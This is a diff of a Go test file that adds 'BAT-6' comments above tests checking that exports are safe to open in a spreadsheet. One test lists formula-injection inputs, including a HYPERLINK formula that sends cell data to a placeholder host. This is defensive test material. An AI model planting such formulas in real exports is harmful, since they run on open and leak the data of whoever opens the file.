@@ -84,6 +84,7 @@ func TestProtectAndRestoreAreInverses(t *testing.T) {
 	})
 }
 
+// BAT-6: exports are safe to open in a spreadsheet.
 func TestNoCellOfATextIsRunByASpreadsheet(t *testing.T) {
 	t.Parallel()
 	for _, evil := range []string{"=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "   +1", "＝1", `=HYPERLINK("http://x/"&A1)`} {
@@ -213,6 +214,7 @@ func TestTheTemplateNamesEveryColumnAndIsReadAgain(t *testing.T) {
 	}
 }
 
+// BAT-6: groups are exported with their ids.
 func TestGroupsAreExportedWithTheirIds(t *testing.T) {
 	t.Parallel()
 	var b bytes.Buffer
